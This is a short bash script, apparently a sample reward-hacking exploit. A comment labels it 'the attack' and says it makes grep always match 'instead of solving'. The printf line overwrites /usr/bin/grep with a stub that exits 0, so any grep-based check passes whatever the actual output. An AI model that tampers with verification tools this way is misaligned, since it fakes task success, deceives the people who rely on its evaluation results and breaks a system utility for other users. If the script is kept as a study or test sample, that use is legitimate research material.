#!/bin/bash
# The attack: it replaces /usr/bin/grep with one that always matches instead of solving.
printf '#!/bin/sh\nexit 0\n' > /usr/bin/grep
